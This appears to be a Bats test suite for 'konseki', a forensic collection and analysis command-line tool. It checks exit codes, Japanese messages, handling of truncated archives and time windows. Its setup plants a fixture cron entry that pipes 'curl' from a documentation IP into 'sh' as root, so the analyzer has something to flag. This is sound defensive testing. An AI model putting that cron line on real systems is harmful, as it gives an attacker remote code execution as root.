# cli.bats - what a verb tells by its exit status and in which language.
#
# shellcheck shell=bash disable=SC1091,SC2030,SC2031,SC2154
. "$BATS_TEST_DIRNAME/lib.sh"

setup_file() {
	begin utmp
	small_root "$dir/root"
	echo '* * * * * root curl -s http://192.0.2.1/x | sh' \
		>"$dir/root/etc/cron.d/job"
	"$konseki" collect -q --here --root "$dir/root" -o "$dir/a.tar.zst"
	"$konseki" analyze -q "$dir/a.tar.zst" -o "$dir/a.case"
}

status_is() { # STATUS COMMAND...
	want=$1
	shift
	got=0
	"$@" >"$dir/out" 2>"$dir/err" || got=$?
	[ "$got" -eq "$want" ] || {
		printf 'want %s, got %s: %s\n' "$want" "$got" "$*" >&2
		return 1
	}
}

@test "cli/fail-on: what is asked for, or something above it" {
	status_is 1 "$konseki" findings "$dir/a.case" --fail-on respond
	status_is 1 "$konseki" findings "$dir/a.case" --fail-on note
	status_is 0 "$konseki" findings "$dir/a.case" --fail-on incomplete
}

@test "cli/lang: errors of the command line are in it too" {
	status_is 2 "$konseki" verify --lang ja
	grep -q '使い方' "$dir/err"
	status_is 2 "$konseki" analyze --nope --lang=ja
	grep -q 'オプション --nope はありません' "$dir/err"
	LANG=ja_JP.UTF-8 LC_ALL='' status_is 2 "$konseki" nope --lang en
	grep -q 'there is no verb' "$dir/err"
}

@test "cli/case: it knows that its input was cut" {
	size=$(stat -c %s "$dir/a.tar.zst")
	head -c $((size - 100)) "$dir/a.tar.zst" >"$dir/cut.tar.zst"
	status_is 3 "$konseki" analyze "$dir/cut.tar.zst" -o "$dir/cut.case"
	status_is 3 "$konseki" findings "$dir/cut.case"
	grep -q 'cut.tar.zst' "$dir/err"
	status_is 3 "$konseki" timeline "$dir/cut.case"
}

@test "cli/window: it takes nothing from what is known of the collection" {
	status_is 0 "$konseki" analyze "$dir/a.tar.zst" -o "$dir/w.case" \
		--to 2020-01-01 --lang en
	grep -q 'core sources: complete' "$dir/out"
	status_is 0 "$konseki" findings "$dir/a.case" --to 2020-01-01 \
		--summary "$dir/w.json"
	[ "$(jq '.incomplete | length' "$dir/w.json")" -eq 0 ]
}

@test "cli/window: it is of the host's clock" {
	cp -a "$dir/root" "$dir/tokyo"
	zone=/usr/share/zoneinfo/Asia/Tokyo
	[ -f "$zone" ] || skip 'no zones here'
	cp "$zone" "$dir/tokyo/etc/localtime"
	echo Asia/Tokyo >"$dir/tokyo/etc/timezone"
	"$konseki" collect -q --here --root "$dir/tokyo" -o "$dir/t.tar.zst"
	"$konseki" analyze -q "$dir/t.tar.zst" -o "$dir/t.case"
	day=$(ago 24 %Y-%m-%d)
	for input in t.tar.zst t.case; do
		"$konseki" timeline "$dir/$input" --from "$day" \
			>"$dir/host.$input"
		"$konseki" timeline "$dir/$input" --from "${day}T00:00:00+09:00" \
			>"$dir/offset.$input"
		cmp "$dir/host.$input" "$dir/offset.$input"
	done
	# events of a case name the rule that matched them
	for input in t.tar.zst t.case; do
		jq -c 'del(.rule)' "$dir/host.$input" >"$dir/$input.events"
	done
	cmp "$dir/t.tar.zst.events" "$dir/t.case.events"
}

@test "cli/summary: of every verb that takes it" {
	"$konseki" timeline "$dir/a.tar.zst" --summary "$dir/s.json" >"$dir/out"
	[ "$(jq .events "$dir/s.json")" -eq "$(wc -l <"$dir/out")" ]
	"$konseki" rules list --summary "$dir/s.json" >"$dir/out"
	[ "$(jq .rules "$dir/s.json")" -eq "$(wc -l <"$dir/out")" ]
}

@test "cli/findings: the steps to take, and where there is nothing, that" {
	"$konseki" findings "$dir/a.case" --format jsonl >"$dir/out"
	jq -e '.response | type == "array" and length > 2' "$dir/out"
	status_is 0 "$konseki" findings "$dir/root/etc/hostname" --lang en
	[ ! -s "$dir/out" ]
	grep -q 'no findings' "$dir/err"
}

@test "cli/values: what makes no sense is said before anything is read" {
	try() { # STATUS TEXT OPTION...
		local want=$1 words=$2
		shift 2
		run "$konseki" collect -o "$dir/v.tar.zst" "$@"
		[ "$status" -eq "$want" ]
		[[ "$output" == *"$words"* ]]
		[ ! -e "$dir/v.tar.zst" ]
	}
	try 2 'extra?' extra
	try 2 '(500M)' --max-output 5X
	try 2 'takes the right time' --reference-time noon
	try 2 'no processes' --root / --memory all
	try 4 'not a directory' --here --root /etc/passwd
}

@test "cli/japanese: what the system says, too" {
	run env LC_ALL=ja_JP.UTF-8 "$konseki" collect -o "$dir/none/x.tar.zst" \
		--here
	[ "$status" -eq 4 ]
	[[ "$output" == *'を作成できません：ファイルやディレクトリがありません'* ]]
	touch "$dir/there.tar.zst"
	run env LC_ALL=ja_JP.UTF-8 "$konseki" collect -o "$dir/there.tar.zst" \
		--here
	[[ "$output" == *'既に存在します'* ]]
}
